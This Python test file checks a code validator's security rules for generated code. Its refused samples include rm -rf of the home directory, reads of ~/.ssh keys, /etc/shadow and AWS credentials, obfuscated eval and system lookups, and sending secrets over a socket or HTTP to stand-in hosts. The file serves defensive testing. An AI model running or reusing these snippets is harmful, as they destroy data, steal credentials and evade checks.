"""Destructive and exfiltrating code that bandit does not match (SEC030-SEC034) is refused, with a message that says
what was found and why it blocks; good code that looks similar passes; the rules stay quiet on the standard library
except where it truly does what they forbid."""

import ast
import sysconfig
import textwrap
from pathlib import Path

import pytest

from ..checks import CheckContext, check_danger
from ..engine import ValidatorOptions, validate
from ..models import EnumFindingSeverity, ModelCodeValidationRequest


async def errors(code: str) -> list[tuple[str, str]]:
    result = await validate(
        ModelCodeValidationRequest(generated_code=textwrap.dedent(code), validation_rules=["security"]),
        ValidatorOptions(),
    )
    return [(e.code, e.message) for e in result.errors if e.code.startswith("SEC03")]


REFUSED = {
    "rmtree of the home directory": (
        'import os, shutil\n\ndef wipe():\n    shutil.rmtree(os.path.expanduser("~"))\n',
        "SEC031",
        "`shutil.rmtree(os.path.expanduser('~'))`: a recursive delete of the home directory",
    ),
    "rm -rf ~ through os.system": (
        'import os\n\ndef wipe():\n    os.system("rm -rf ~")\n',
        "SEC031",
        "`os.system('rm -rf ~')`: a recursive delete of the home directory",
    ),
    "__import__ of os": (
        'def run(cmd):\n    __import__("os").system(cmd)\n',
        "SEC030",
        "`__import__('os')` imports `os` dynamically",
    ),
    "importlib.import_module of os": (
        'import importlib\n\ndef run(cmd):\n    importlib.import_module("os").system(cmd)\n',
        "SEC030",
        "`importlib.import_module('os')` imports `os` dynamically",
    ),
    "getattr of a built eval": (
        'import builtins\n\ndef run(x):\n    return getattr(builtins, "ev" + "al")(x)\n',
        "SEC030",
        "`getattr(builtins, 'ev' + 'al')` looks up `eval` on `builtins`",
    ),
    "reading ~/.ssh": (
        'import os\n\ndef key():\n    with open(os.path.expanduser("~/.ssh/id_rsa")) as fh:\n        return fh.read()\n',
        "SEC033",
        "points at credentials (`.ssh/`)",
    ),
    "an environment variable over a socket": (
        "import os, socket\n\ndef leak():\n    s = socket.create_connection(('203.0.113.9', 4444))\n"
        "    s.sendall(os.environ['AWS_SECRET_ACCESS_KEY'].encode())\n",
        "SEC034",
        "sends the environment variable `AWS_SECRET_ACCESS_KEY`",
    ),
    "getattr of sys+tem on os": (
        'import os\n\ndef run(x):\n    return getattr(os, "sys" + "tem")(x)\n',
        "SEC030",
        "looks up `system` on `os`",
    ),
    "getattr of a computed name on os": (
        "import os\n\ndef run(name, x):\n    return getattr(os, name)(x)\n",
        "SEC030",
        "looks up a name computed at run time on `os`",
    ),
    "a joined eval": (
        'import builtins\n\ndef run(x):\n    return getattr(builtins, "".join(["e", "v", "a", "l"]))(x)\n',
        "SEC030",
        "looks up `eval` on `builtins`",
    ),
    "rm -rf in a subprocess argument list": (
        'import subprocess\n\ndef wipe(path):\n    subprocess.run(["rm", "-rf", path])\n',
        "SEC031",
        "a recursive delete (`rm -r`) through a shell",
    ),
    "rmtree of a folder the caller names": (
        "import shutil\n\ndef wipe(path):\n    shutil.rmtree(path)\n",
        "SEC031",
        "a recursive delete of `path`, a folder this code did not create",
    ),
    "os.removedirs": (
        "import os\n\ndef prune(path):\n    os.removedirs(path)\n",
        "SEC031",
        "a recursive delete of `path`",
    ),
    "appending to ~/.bashrc": (
        'import os\n\ndef persist():\n    with open(os.path.expanduser("~/.bashrc"), "a") as fh:\n        fh.write("x")\n',
        "SEC032",
        "a write outside the project, into the home directory",
    ),
    "a write into $HOME": (
        'import os\n\ndef drop():\n    path = os.path.join(os.environ["HOME"], "x.txt")\n    open(path, "w").write("x")\n',
        "SEC032",
        "into the home directory",
    ),
    "a write into Path.home()": (
        'from pathlib import Path\n\ndef drop():\n    (Path.home() / "x.txt").write_text("x")\n',
        "SEC032",
        "into the home directory",
    ),
    "a write into /etc": (
        'def drop():\n    open("/etc/hosts", "w").write("x")\n',
        "SEC032",
        "into `/etc`",
    ),
    "a write at the filesystem root": (
        'def drop():\n    open("/pwned", "w").write("x")\n',
        "SEC032",
        "into `/pwned`",
    ),
    "a write into any absolute folder": (
        'import shutil\n\ndef drop(src):\n    shutil.copy(src, "/usr/local/bin/tool")\n',
        "SEC032",
        "into `/usr`",
    ),
    "reading /etc/shadow": ('def read():\n    return open("/etc/shadow").read()\n', "SEC033", "`/etc/shadow`"),
    "reading aws credentials": (
        'from pathlib import Path\n\ndef read():\n    return (Path.home() / ".aws/credentials").read_text()\n',
        "SEC033",
        "`.aws/credentials`",
    ),
    "the keyring": (
        'import keyring\n\ndef read():\n    return keyring.get_password("svc", "me")\n',
        "SEC033",
        "reads a stored credential from the keyring",
    ),
    "the whole environment over HTTP": (
        'import os, requests\n\ndef leak():\n    requests.post("https://example.com", json=dict(os.environ))\n',
        "SEC034",
        "sends the whole environment",
    ),
    "an environment variable by mail": (
        "import os, smtplib\n\ndef leak(server: smtplib.SMTP):\n    token = os.getenv('GITHUB_TOKEN')\n"
        "    server.sendmail('a@example.com', ['b@example.com'], token)\n",
        "SEC034",
        "sends the environment variable `GITHUB_TOKEN`",
    ),
}


@pytest.mark.parametrize(("code", "expected", "message"), REFUSED.values(), ids=REFUSED.keys())
async def test_refused_with_what_was_found_and_why(code, expected, message):
    found = await errors(code)
    assert expected in [code for code, _ in found], found
    assert any(message in text for code, text in found if code == expected), found


async def test_the_findings_are_errors_that_block():
    result = await validate(
        ModelCodeValidationRequest(generated_code='import os\n\ndef wipe():\n    os.system("rm -rf ~")\n'),
        ValidatorOptions(),
    )
    (finding,) = [e for e in result.errors if e.code == "SEC031"]
    assert finding.severity is EnumFindingSeverity.ERROR and finding.rule == "security" and finding.line == 4
    assert not result.is_valid


PASSING = {
    "rmtree of its own mkdtemp folder": (
        "import shutil, tempfile\n\ndef work() -> None:\n    folder = tempfile.mkdtemp()\n    try:\n"
        "        pass\n    finally:\n        shutil.rmtree(folder)\n"
    ),
    "rmtree inside a TemporaryDirectory": (
        "import os, shutil, tempfile\n\ndef work() -> None:\n    with tempfile.TemporaryDirectory() as folder:\n"
        "        build = os.path.join(folder, 'build')\n        shutil.rmtree(build, ignore_errors=True)\n"
    ),
    "reading a project file": (
        "from pathlib import Path\n\ndef version(root: Path) -> str:\n    return (root / 'pyproject.toml').read_text()\n"
    ),
    "writing a relative file": "def save(text: str) -> None:\n    with open('out/report.txt', 'w') as fh:\n        fh.write(text)\n",
    "plain socket code": (
        "import socket\n\ndef ask(host: str, port: int, payload: bytes) -> bytes:\n"
        "    with socket.create_connection((host, port)) as s:\n        s.sendall(payload)\n        return s.recv(1024)\n"
    ),
    "a configured URL from the environment": (
        "import os, requests\n\ndef fetch() -> dict:\n    return requests.get(os.environ['API_URL'], timeout=5).json()\n"
    ),
    "a configured token in the request's headers": (
        "import os, httpx\n\ndef fetch() -> httpx.Response:\n"
        "    return httpx.get('https://api.example.com', headers={'Authorization': 'Bearer ' + os.environ['TOKEN']})\n"
    ),
    "getattr on an ordinary object": "def field(obj: object, name: str) -> object:\n    return getattr(obj, name)\n",
    "a harmless dynamic import": "import importlib\n\ndef dumps() -> str:\n    return importlib.import_module('json').dumps({})\n",
    "a docstring that mentions ~/.ssh": 'def hosts() -> int:\n    """Unlike ssh, which reads ~/.ssh/config, this reads nothing."""\n    return 1\n',
    "a file in /tmp": "def scratch() -> None:\n    open('/tmp/scratch.txt', 'w').write('x')\n",
    "rm without -r": "import subprocess\n\ndef clean(path: str) -> None:\n    subprocess.run(['rm', '-f', path], check=True)\n",
}


@pytest.mark.parametrize("code", PASSING.values(), ids=PASSING.keys())
async def test_good_code_is_not_refused(code):
    assert await errors(code) == []


# Reviewed on CPython 3.11: each is a computed lookup on os/builtins, a delete of a folder the function did not
# create, or reading ~/.netrc - what the rules forbid in generated code, though the standard library may do it.
STDLIB_REVIEWED = {
    ("shutil.py", "SEC030"),  # getattr(os, name, _nop) in _copyxattr/_copystat
    ("tempfile.py", "SEC031"),  # TemporaryDirectory._rmtree(name): rmtree of a path handed in
    ("subprocess.py", "SEC030"),  # getattr(builtins, exception_name.decode(), ...)
    ("netrc.py", "SEC033"),  # netrc reads ~/.netrc
    ("pydoc.py", "SEC030"),  # locate(): getattr(builtins, part) for any dotted path
}
STDLIB_MODULES = (
    "shutil.py",
    "tempfile.py",
    "os.py",
    "subprocess.py",
    "socket.py",
    "http/client.py",
    "urllib/request.py",
    "smtplib.py",
    "json/__init__.py",
    "pathlib.py",
    "zipfile.py",
    "tarfile.py",
    "logging/handlers.py",
    "netrc.py",
    "importlib/__init__.py",
    "pydoc.py",
    "webbrowser.py",
    "ftplib.py",
    "mailbox.py",
    "getpass.py",
    "site.py",
    "pkgutil.py",
    "runpy.py",
    "pdb.py",
    "inspect.py",
    "glob.py",
    "filecmp.py",
    "configparser.py",
    "ssl.py",
    "uuid.py",
)


def test_the_standard_library_is_flagged_only_where_it_does_what_the_rules_forbid():
    library = Path(sysconfig.get_paths()["stdlib"])
    functions, flagged = 0, set()
    for name in STDLIB_MODULES:
        path = library / name
        if not path.is_file():
            continue
        text = path.read_text(encoding="utf-8")
        tree = ast.parse(text)
        functions += sum(isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef) for node in ast.walk(tree))
        ctx = CheckContext(
            text=text,
            lines=text.splitlines(keepends=True),
            tree=tree,
            file_path=str(path),
            regions=None,
            onex_file=False,
            onex_rules_requested=False,
        )
        flagged |= {(name, finding.code) for finding in check_danger(ctx)}
    assert functions > 1000
    assert flagged <= STDLIB_REVIEWED, flagged - STDLIB_REVIEWED
